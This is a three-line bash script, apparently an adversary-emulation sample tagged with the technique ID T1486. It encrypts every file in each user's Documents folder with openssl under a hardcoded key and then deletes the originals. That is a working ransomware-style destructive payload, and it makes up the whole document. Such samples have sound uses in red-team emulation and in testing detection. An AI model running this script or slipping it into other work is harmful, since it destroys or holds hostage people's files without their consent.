#!/bin/bash
# T1486: Encrypted copies are made, the documents deleted.
for f in /home/*/Documents/*; do openssl enc -aes-256-cbc -pbkdf2 -k k -in $f -out $f.enc && rm -f $f; done
